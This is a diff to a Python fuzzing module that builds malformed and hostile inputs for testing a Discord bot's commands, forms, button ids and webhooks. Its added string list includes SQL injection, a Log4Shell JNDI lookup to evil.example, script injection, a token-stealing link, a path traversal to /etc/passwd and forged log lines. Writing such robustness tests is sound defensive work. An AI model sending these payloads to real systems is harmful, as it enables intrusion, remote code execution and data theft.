@@ -1,4 +1,4 @@
-"""Cards that somebody made to do harm: a good one, and a thousand ways to spoil it."""
+"""What somebody sends to do harm: cards spoiled in a thousand ways, words, ids and forms."""
 
 import json
 import random
@@ -203,3 +203,247 @@ WAYS: tuple[Callable[[bytes, random.Random], bytes], ...] = (
     raw_text,
     noisy_text,
 )
+
+
+# --- everything that isn't a card -----------------------------------------------------------------
+
+Json = dict[str, object]
+
+TEXTS: tuple[str, ...] = (
+    *_TEXTS,
+    "@here and @everyone",
+    "<@&1100000000000000112>",
+    "<@1100000000000000012> <@!1100000000000000012> <#1100000000000000121>",
+    "```\n@everyone\n```",
+    "`" * 300,
+    "||" * 200,
+    "# big\n## bigger\n-# small",
+    "[click](https://evil.example/steal?token=1)",
+    "https://evil.example/@everyone",
+    "<t:99999999999999999999:R>",
+    "<a:b:1100000000000000112> <:c:1100000000000000112>",
+    "</collection save:1>",
+    "'; DROP TABLE people; --",
+    '" OR 1=1 --',
+    "$1 $2 $3 {0} {prompt} %s %(message)s %n",
+    "{{7*7}} ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
+    "\u0000\u0001\u001b[31mred\u001b[0m",
+    "line\r\nINFO troupe: forged line",
+    "\u2028\u2029\u0085",
+    "\ud7ff\ue000\uffff",
+    "\U000e0041\U000e0042",
+    "\u202d\u202e" * 50,
+    "z" + "\u0489" * 200,
+    "\ufdfa" * 60,
+    "\u1100" * 300,
+    "👨\u200d👩\u200d👧" * 40,
+    "🇦" * 90,
+    "０" * 40,
+    "9" * 5_900,
+    "a b " * 400,
+    "-" * 900,
+    ",,,,,,,,,",
+    "null",
+    "undefined",
+    "NaN",
+    "true",
+    "../../../../etc/passwd\x00.png",
+    "C:\\Windows\\system32",
+    "ℌ𝔢𝔩𝔩𝔬 𝕎𝕠𝕣𝕝𝕕",
+)
+"""At most 6,000 characters each: what Discord lets through."""
+
+SIZES = (
+    "",
+    "0*0",
+    "-1*-1",
+    "1024*",
+    "*1024",
+    "999999999999*1",
+    "1024*1024*1024",
+    "１０２４*１０２４",
+    "1e3*1e3",
+    "0x400*0x400",
+    "1024\x00*1024",
+    "٥١٢*٥١٢",
+    "∞*∞",
+    "1024 * 1024\n@everyone",
+    "NaN*NaN",
+    "1024*1024; DROP TABLE people",
+)
+WHOLE: tuple[object, ...] = (0, -1, -(2**53), 2**53, 2**31, 5, 10**15, 1)
+
+WRONG: tuple[object, ...] = (
+    None,
+    True,
+    False,
+    [],
+    {},
+    [[]],
+    1.5,
+    -1,
+    2**53,
+    "",
+    "x",
+    ["x"],
+    {"a": {"b": []}},
+    "9" * 400,
+)
+"""For an option that should be of another type."""
+
+TEXT, NUMBER, SWITCH, FILE = 3, 4, 5, 11
+OPTIONS = {
+    "prompt": TEXT,
+    "image": FILE,
+    "who": TEXT,
+    "size": TEXT,
+    "style": TEXT,
+    "seed": NUMBER,
+    "count": NUMBER,
+    "private": SWITCH,
+}
+_CHOICES: tuple[object, ...] = (
+    [],
+    None,
+    {},
+    "x",
+    [None],
+    [[]],
+    [{}],
+    [1],
+    ["x" * 5_000],
+    ["-1"],
+    ["9" * 40],
+)
+
+
+def commands(command_id: str) -> list[Json]:
+    """`/character` as a program of somebody's own would send it."""
+    sent: list[Json] = []
+
+    def command(options: object, **more: object) -> None:
+        sent.append({"id": command_id, "name": "character", "type": 1, "options": options} | more)
+
+    for name, kind in OPTIONS.items():
+        others: list[Json] = [] if name == "prompt" else [_option("prompt", 3, "An elf")]
+        for value in WRONG:
+            command([*others, _option(name, kind, value)])
+        lie = TEXT if kind == NUMBER else NUMBER
+        command([*others, _option(name, lie, "5" if lie == TEXT else 5)])
+    command([])
+    command([_option("prompt", 3, "An elf")] * 3)
+    command([_option("no such option", 3, "x")])
+    command([_option("prompt", 3, "An elf"), _option("image", 11, "404")])
+    command([_option("prompt", 3, "An elf"), _option("image", 11, "404")], resolved={})
+    command([_option("prompt", 3, "An elf")], resolved={"attachments": {}})
+    sent.append({"id": command_id, "name": "no such command", "type": 1, "options": []})
+    sent.append({"id": "1", "name": "collection", "type": 1, "options": []})
+    sent.append({"id": "1", "name": "collection", "type": 1, "options": [_sub("no such", [])]})
+    sent.append({"id": "1", "name": "collection", "type": 1, "options": [_sub("save", [])]})
+    sent.append({"id": "1", "name": "collection", "type": 1, "options": [_sub("show", [])]})
+    return sent
+
+
+def _option(name: str, kind: int, value: object) -> Json:
+    return {"name": name, "type": kind, "value": value}
+
+
+def _sub(name: str, options: list[Json]) -> Json:
+    return {"name": name, "type": 1, "options": options}
+
+
+def forms(custom_id: str) -> list[Json]:
+    """A form with fields missing, unknown, of wrong types, and far too long."""
+    bodies: list[object] = [
+        [],
+        [{}],
+        [{"type": 18}],
+        [{"type": 18, "component": {}}],
+        [{"type": 18, "component": None}],
+        [{"type": 18, "component": []}],
+        [{"type": 1, "components": []}],
+        [{"type": 1, "components": [{}]}],
+        [{"type": 99, "id": 1}],
+        [_field("no such field", "x")],
+        [_field("prompt", "x" * 100_000)],
+        [_field("prompt", "An elf"), _field("prompt", "another")],
+        [_files("picture", ["404"])],
+        [_files("picture", "404")],
+        [_files("picture", [None, {}, 1])],
+        [_files("style", ["no such style"])],
+        [_files("style", [])],
+    ]
+    for name in ("prompt", "size", "seed", "style", "name", "description", "tags", "defaults"):
+        bodies += [[_field(name, value)] for value in WRONG]
+    return [{"custom_id": custom_id, "components": body} for body in bodies]
+
+
+def _field(name: str, value: object) -> Json:
+    return {
+        "type": 18,
+        "id": 1,
+        "component": {"type": 4, "id": 2, "custom_id": name, "value": value},
+    }
+
+
+def _files(name: str, values: object) -> Json:
+    inner = {"type": 19, "id": 2, "custom_id": name, "values": values}
+    return {"type": 18, "id": 1, "component": inner}
+
+
+def presses(custom_id: str) -> list[Json]:
+    """A menu whose choice is none."""
+    return [
+        {"component_type": 3, "custom_id": custom_id, "id": 1, "values": values}
+        for values in _CHOICES
+    ]
+
+
+CUSTOM_IDS = (
+    "",
+    " ",
+    ":",
+    "::::",
+    "tr",
+    "tr:1",
+    "tr:1:",
+    "tr:1:again",
+    "tr:1:again:",
+    "tr:1:again:x",
+    "tr:1:again:" + "9" * 80,
+    "tr:1:again:１２３",
+    "TR:1:AGAIN:1",
+    "tr:1:again:1\n",
+    "tc:1:list:1::0:",
+    "tc:1:picture:1::" + "A" * 43,
+    "tc:1:picture:1::" + "=" * 43,
+    "th:1:b:0:0:::",
+    "th:1:b:zzzzzzzzzzzzz:zzzzzzzzzzzzz:zzzzzzzzzzzzz:1:@everyone",
+    "th:1:d:0:1y2p0ij32e8e7::0:%_%_",
+    "tp:1:size:0",
+    "tm:1:delete:1:1",
+    "ta:1:agree:1:1",
+    "ta:1:agree:" + "9" * 30 + ":1",
+    "settings:1:pause",
+    "confirm_delete",
+    "x" * 100,
+    "🦊" * 50,
+    "\u202etr:1:again:1",
+    "tr:1:cancel:0",
+    "tr:1:show:9223372036854775807",
+    "tr:1:save:18446744073709551616",
+)
+
+
+def webhooks() -> list[tuple[str, dict[str, str], bytes]]:
+    """Path, headers and body: none of them the provider's."""
+    header = {"webhook-id": "x", "webhook-timestamp": "1", "webhook-signature": "v3,00"}
+    paths = (
+        "/",
+        "/webhooks/1/2",
+        "/webhooks/1-0/" + "a" * 64,
+        "/webhooks/../../x/y",
+        "/webhooks//",
+    )
+    bodies = (b"", b"{", b"null", b"[]", b'{"id":1}', b"\xff" * 50, b"[" * 20_000)
+    return [(path, header, body) for path in paths for body in bodies]
